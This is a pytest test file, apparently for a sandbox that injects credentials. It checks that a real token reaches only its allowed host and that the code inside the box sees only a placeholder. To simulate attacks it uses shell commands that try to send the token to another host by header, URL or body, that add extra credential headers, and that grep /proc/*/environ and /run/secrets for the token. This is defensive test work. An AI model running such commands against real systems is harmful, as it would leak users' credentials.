# SPDX-License-Identifier: Apache-2.0
"""Credentials that never enter: attacks 116 and 118 through a whole box, and what clients of the box trust."""
import base64

import pytest

TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT" + "0123456789abcdef"
HOST = "api.example.org"
SECRET = f"TOKEN=env:TOKEN,inject={HOST}"
CURL = ("curl", "-sS", "-m", "20")


def run(world, project, script, *options, net=(), secret=SECRET, **env):
    environment = world.environment(project, TOKEN=TOKEN, **env)
    return world.box("sh", "-c", script, net=net, cwd=project, options=["--secret", secret, *options], env=environment)


def sent(seen, host=HOST):
    return [row for row in seen.web if row["host"].split(":")[0] == host]


def test_the_host_gets_it_and_the_box_does_not(world, project):
    with world.watch() as seen:
        result = run(world, project, f'printenv TOKEN; curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://{HOST}/whoami; grep -raF {TOKEN[4:14]} /proc/*/environ /run/secrets /tmp .')
    placeholder = result["stdout"].splitlines()[0]
    assert placeholder.startswith("ghp_") and len(placeholder) == len(TOKEN) and placeholder != TOKEN
    assert [row["authorization"] for row in sent(seen)] == [f"Bearer {TOKEN}"], (seen.web, result)
    assert TOKEN not in str(result)


@pytest.mark.parametrize("way", ["header", "path", "body"])
def test_116_to_another_host_it_is_refused(world, project, way):
    """A placeholder is worth nothing elsewhere, and the real one is never sent there."""
    how = {"header": '-H "Authorization: Bearer $TOKEN" https://example.com/whoami', "path": '"https://example.com/whoami?t=$TOKEN"', "body": '-d "t=$TOKEN" https://example.com/whoami'}[way]
    told = False
    for _ in range(5 if way == "body" else 1):
        with world.watch() as seen:
            result = run(world, project, f"curl -sS -m 20 -w '%{{http_code}}' {how}; true", net=("https://example.com/* GET,POST",))
        assert TOKEN not in str(seen.web) and TOKEN not in str(result)
        # A body comes behind its head, which may be on its way; a host that answers to the head alone is sometimes done before it.
        assert way == "body" or not sent(seen, "example.com"), seen.web
        told = told or any(row["reason"] == "wrong-secret" for row in result["net"]["connections"])
        if told:
            break
    assert told, result["net"]


def test_116_where_tls_is_passed_on_only_the_placeholder_gets_out(world, project):
    with world.watch() as seen:
        run(world, project, 'curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://example.com/whoami', net=("example.com:443",))
    assert [row["authorization"] for row in sent(seen, "example.com")] != [f"Bearer {TOKEN}"] and TOKEN not in str(seen.web)


def test_118_a_second_credential_is_stripped(world, project):
    with world.watch() as seen:
        run(world, project, f'curl -sS -m 20 -H "Authorization: Bearer $TOKEN" -H "Authorization: Bearer mine" -H "X-Api-Key: mine" https://{HOST}/whoami')
    assert {row["authorization"] for row in sent(seen)} <= {f"Bearer {TOKEN}"} and all(row["second"] in ("", "-") for row in sent(seen)), seen.web


def test_basic_authentication_is_encoded_anew(world, project):
    with world.watch() as seen:
        run(world, project, f'curl -sS -m 20 -u "me:$TOKEN" https://{HOST}/whoami', secret=SECRET + " basic")
    assert [row["authorization"] for row in sent(seen)] == ["Basic " + base64.b64encode(f"me:{TOKEN}".encode()).decode()], seen.web


@pytest.mark.parametrize("client", ["curl", "python", "node", "git", "java"])
def test_clients_trust_the_authority_of_the_box(world, project, client):
    """Whatever list of roots they have of their own."""
    url = f"https://{HOST}/whoami"
    (project / "Get.java").write_text(f'public class Get {{ public static void main(String[] a) throws Exception {{ System.out.println(new String(new java.net.URL("{url}").openStream().readAllBytes())); }} }}')
    script = {"curl": f"curl -sS -m 20 {url}", "git": f"git ls-remote {url} 2>&1 | grep -v -i certificate",
              "python": f"/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}\").read())'",
              "node": f"node -e 'fetch(\"{url}\").then(r => r.text()).then(console.log)'", "java": "java Get.java"}[client]
    with world.watch() as seen:
        result = run(world, project, script, "--timeout", "60s")
    assert sent(seen), (result["stdout"], result["stderr"], result["net"])
